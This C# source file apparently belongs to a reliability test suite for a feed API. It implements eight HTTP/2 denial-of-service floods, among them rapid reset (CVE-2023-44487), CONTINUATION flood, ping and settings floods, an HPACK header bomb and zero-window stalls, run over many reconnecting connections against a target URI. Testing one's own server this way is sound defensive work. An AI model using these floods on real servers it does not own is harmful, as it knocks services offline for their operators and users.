using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;

namespace FeedApi.Reliability.Attack;

/// <summary>Floods of h2 frames, as fast as the server takes them, each on several connections that come again when they are cut.</summary>
internal static class Http2Flood
{
    private const int Connections = 16;
    private const int BatchFrames = 200;
    private const byte Data = 0, Headers = 1, Reset = 3, SettingsType = 4, Ping = 6, Continuation = 9;
    private const byte EndStream = 1, EndHeaders = 4;

    private static readonly Dictionary<string, Action<Target, FloodCount, CancellationToken>> Floods = new()
    {
        ["h2-reset"] = Resets,
        ["h2-continuation"] = Continuations,
        ["h2-settings"] = Settings,
        ["h2-ping"] = Pings,
        ["h2-streams"] = Streams,
        ["h2-hpack"] = HeaderBombs,
        ["h2-empty-data"] = EmptyData,
        ["h2-window"] = ClosedWindows,
    };

    /// <summary>
    /// An attack by each flood, in a process of its own that gets what the others leave of the processors: attackers sit on other machines.
    /// </summary>
    public static IEnumerable<Attack> Attacks =>
        Floods.Keys.Select(name => new Attack(name, (target, end) => RunApartAsync(name, target, end)));

    /// <summary>What the process of its own does: floods until its input ends, and tells what became of it.</summary>
    public static async Task<int> RunAsync(string name, Uri server)
    {
        using var end = new CancellationTokenSource();
        var flooded = RunAsync(new Target(server, server), Floods[name], end.Token);
        await Console.In.ReadToEndAsync(CancellationToken.None);
        await end.CancelAsync();
        Console.Write(await flooded);
        return 0;
    }

    private static async Task<string> RunApartAsync(string name, Target target, CancellationToken end)
    {
        string[] arguments = ["-n", "19", Environment.ProcessPath!, FloodCommand.Name, name, target.Http2.ToString()];
        using var process = Process.Start(
            new ProcessStartInfo("nice", arguments) { RedirectStandardInput = true, RedirectStandardOutput = true })!;
        await end.WhenAsync();
        process.StandardInput.Close();
        return await process.StandardOutput.ReadToEndAsync(CancellationToken.None);
    }

    /// <summary>Requests that are taken back at once (CVE-2023-44487).</summary>
    private static void Resets(Target target, FloodCount count, CancellationToken end) => Flood(target, count, doesRead: true, stream =>
        [
            .. Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, Http2Peer.Get(target.Http2, "/feed.rss")),
            .. Http2Peer.Frame(Reset, 0, stream, [0, 0, 0, 8])
        ],
        end);

    /// <summary>A request whose fields do not end (CVE-2024-27316).</summary>
    private static void Continuations(Target target, FloodCount count, CancellationToken end) =>
        Flood(target, count, doesRead: true, stream =>
            stream == 1
                ? Http2Peer.Frame(Headers, 0, 1, Http2Peer.Get(target.Http2, "/feed.rss"))
                : Http2Peer.Frame(Continuation, 0, 1, [0x00, 0x01, (byte)'a', 0x01, (byte)'b']),
            end);

    /// <summary>Settings, each of which wants an acknowledgement that nobody reads (CVE-2019-9515).</summary>
    private static void Settings(Target target, FloodCount count, CancellationToken end) =>
        Flood(target, count, doesRead: false, _ => Http2Peer.Frame(SettingsType, 0, 0, [0, 4, 0, 0, 0xFF, 0xFF]), end);

    /// <summary>Pings, each of which wants an answer that nobody reads (CVE-2019-9512).</summary>
    private static void Pings(Target target, FloodCount count, CancellationToken end) =>
        Flood(target, count, doesRead: false, _ => Http2Peer.Frame(Ping, 0, 0, new byte[8]), end);

    /// <summary>Many more requests than may be open at a time.</summary>
    private static void Streams(Target target, FloodCount count, CancellationToken end) =>
        Flood(
            target,
            count,
            doesRead: true,
            stream => Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, Http2Peer.Get(target.Http2, "/feed.rss?limit=100")),
            end);

    /// <summary>Few bytes that stand for many: a large field in the dynamic table, used a thousand times (CVE-2016-6581).</summary>
    private static void HeaderBombs(Target target, FloodCount count, CancellationToken end) =>
        Flood(target, count, doesRead: true, stream =>
        {
            byte[] large = [0x40, 0x01, (byte)'a', 0x7F, 0xA1, 0x1E, .. Enumerable.Repeat((byte)'b', 127 + 0x21 + (0x1E << 7))];
            return Http2Peer.Frame(
                Headers,
                EndHeaders | EndStream,
                stream,
                [.. Http2Peer.Get(target.Http2, "/feed.rss"), .. large, .. Enumerable.Repeat((byte)0xBE, 1_000)]);
        }, end);

    /// <summary>Bodies of empty frames that do not end (CVE-2019-9518).</summary>
    private static void EmptyData(Target target, FloodCount count, CancellationToken end) => Flood(target, count, doesRead: true, stream =>
        stream == 1 ? Http2Peer.Frame(Headers, EndHeaders, 1, Http2Peer.Get(target.Http2, "/feed.rss")) : Http2Peer.Frame(Data, 0, 1, []),
        end);

    /// <summary>Requests for a large feed by someone who takes none of it (CVE-2019-9511, CVE-2019-9517).</summary>
    private static void ClosedWindows(Target target, FloodCount count, CancellationToken end)
    {
        using var peer = new Http2Peer(target.Http2, [0, 4, 0, 0, 0, 0]);
        for (var stream = 1; stream < 200; stream += 2)
        {
            peer.Send(Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, Http2Peer.Get(target.Http2, "/feed.rss?limit=100")));
            count.Sent(1);
        }

        while (peer.Take() && !end.IsCancellationRequested) end.WaitHandle.WaitOne(TimeSpan.FromMilliseconds(200));
        count.Ended(peer.GoneAway);
    }

    private static void Flood(Target target, FloodCount count, bool doesRead, Func<int, byte[]> frame, CancellationToken end)
    {
        using var peer = new Http2Peer(target.Http2);
        try
        {
            for (var stream = 1; !end.IsCancellationRequested;)
            {
                List<byte> batch = [];
                for (var i = 0; i < BatchFrames; i++, stream += 2) batch.AddRange(frame(stream));
                peer.Send([.. batch]);
                count.Sent(BatchFrames);
                if (doesRead && !peer.Take()) break;
            }
        }
        finally
        {
            Hear(peer);
            count.Ended(peer.GoneAway);
        }
    }

    // Why it was cut.
    private static void Hear(Http2Peer peer)
    {
        try
        {
            peer.Take();
        }
        catch (SocketException)
        {
            // It was reset, and nothing was left to hear.
        }
    }

    private static async Task<string> RunAsync(Target target, Action<Target, FloodCount, CancellationToken> flood, CancellationToken end)
    {
        var count = new FloodCount();
        Task[] peers = [.. Enumerable.Range(0, Connections)
            .Select(_ => Task.Factory.StartNew(
                () => Repeat(() => flood(target, count, end), end),
                CancellationToken.None,
                TaskCreationOptions.LongRunning,
                TaskScheduler.Default))];
        await Task.WhenAll(peers);
        return string.Create(CultureInfo.InvariantCulture, $"{count}");
    }

    private static void Repeat(Action flood, CancellationToken end)
    {
        while (!end.IsCancellationRequested)
        {
            try
            {
                flood();
            }
            catch (SocketException)
            {
                // Cut; comes again.
            }
        }
    }
}
